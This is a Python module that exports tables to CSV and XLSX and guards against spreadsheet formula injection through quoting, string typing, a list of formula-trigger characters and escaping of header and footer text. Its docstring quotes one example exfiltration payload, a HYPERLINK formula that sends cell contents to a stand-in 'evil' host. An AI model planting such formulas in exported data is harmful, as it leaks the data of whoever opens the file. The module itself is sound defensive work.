"""Tables out as CSV or XLSX, safe to open in a spreadsheet.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice and WPS as a formula (CSV/formula injection: a complaint text
``=HYPERLINK("http://evil/?"&A1,"点击")`` would run on the supervisor's machine).  Such
text gets a leading single quote, which spreadsheets show as text; the full-width forms
(＝ ＋ － ＠), which some spreadsheet input paths normalise to the ASCII ones, are treated
the same.  Numbers stay numbers.  In XLSX every text cell is also written with the string
type, so openpyxl never stores it as a formula.

Every workbook qrisk writes goes through here: the API's tables (``to_xlsx``) and the printable
credit file (``qrisk.credit_report.write_xlsx``) take their cell values from ``xlsx_value`` and
their page header/footer text from ``header_footer_text``.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from typing import Any, Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MEDIA_TYPE = "text/csv; charset=utf-8"
_XLSX_MAX_CELL = 32767  # Excel's limit on text in one cell


def neutralise(value: Any) -> Any:
    """A cell value that no spreadsheet reads as a formula: numbers as they are, text quoted if it could start one."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return value
    if isinstance(value, (dict, list)):
        value = json.dumps(value, ensure_ascii=False, sort_keys=True)
    elif isinstance(value, (dt.date, dt.datetime)):
        value = value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def xlsx_value(value: Any) -> Any:
    """A value as an XLSX cell may hold it: a number as it is; text neutralised (``neutralise``), with the
    characters XML cannot carry (control characters, lone surrogates) replaced, cut at Excel's limit.
    The cell it goes into must still be given the string type (``data_type = "s"``): openpyxl reads
    a string starting with ``=`` as a formula and one like ``#N/A`` as an error value."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = neutralise(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        value = value.encode("utf-8", "replace").decode("utf-8")[:_XLSX_MAX_CELL]
    return value


def header_footer_text(text: str) -> str:
    """Text for a printed page's header or footer, shown as written: there ``&`` starts a code (``&P``
    the page number, ``&"font"``, ``&12`` a font size, ``&D`` today's date), so a literal one is ``&&``."""
    return text.replace("&", "&&")


def _cells(rows: Iterable[dict[str, Any]], columns: Sequence[str]) -> Iterable[list[Any]]:
    for row in rows:
        yield [neutralise(row.get(c)) for c in columns]


def to_csv(rows: Iterable[dict[str, Any]], columns: Sequence[str]) -> bytes:
    """UTF-8 with a BOM (Excel opens Chinese text correctly only with one), CRLF rows, every field quoted."""
    buf = io.StringIO()
    writer = csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralise(c) for c in columns])
    for cells in _cells(rows, columns):
        writer.writerow(cells)
    return ("\ufeff" + buf.getvalue()).encode("utf-8", "backslashreplace")


_LOCAL_DAY = re.compile(r"\d{4}-\d{2}-\d{2}")
_LOCAL_MINUTE = re.compile(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}")


def _local_moment(text: str) -> tuple[Any, str] | None:
    """A local date or minute written as text (``qrisk.sheets.local_time``), as a value and its Excel format; else None."""
    try:
        if _LOCAL_DAY.fullmatch(text):
            return dt.date.fromisoformat(text), "yyyy-mm-dd"
        if _LOCAL_MINUTE.fullmatch(text):
            return dt.datetime.strptime(text, "%Y-%m-%d %H:%M"), "yyyy-mm-dd hh:mm"
    except ValueError:
        return None
    return None


def to_xlsx(rows: Iterable[dict[str, Any]], columns: Sequence[str], sheet: str = "qrisk",
            headers: dict[str, str] | None = None, number_formats: dict[str, str] | None = None, note: str | None = None,
            dates: bool = False) -> bytes:
    """``headers``: the header row's text per column (a sheet people print reads 企业名称, not name);
    ``number_formats``: an Excel format per column for its numbers (``0.0%``: a rate stays a number people can sort);
    ``note``: a last line after a blank one, printed with the table (that it does not hold every row that matched);
    ``dates``: text that is a local date (2026-02-04) or a local time to the minute (2026-02-04 10:00), as people's sheets
    write them, becomes an Excel date cell (yyyy-mm-dd, yyyy-mm-dd hh:mm): one a sheet sorts, filters by month and counts
    days with, which text is not."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet[:31])

    def cell(value: Any, number_format: str | None = None) -> Any:
        if dates and isinstance(value, str):
            moment = _local_moment(value)
            if moment is not None:
                c = WriteOnlyCell(ws, value=moment[0])
                c.number_format = moment[1]
                return c
        value = xlsx_value(value)
        if isinstance(value, str):
            c = WriteOnlyCell(ws, value=value)
            c.data_type = "s"  # text, never a formula
            return c
        c = WriteOnlyCell(ws, value=value)
        if number_format:
            c.number_format = number_format
        return c

    formats = [(number_formats or {}).get(c) for c in columns]
    ws.append([cell((headers or {}).get(c, c)) for c in columns])
    for row in rows:
        ws.append([cell(row.get(c), f) for c, f in zip(columns, formats)])
    if note:
        ws.append([])
        ws.append([cell(note)])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
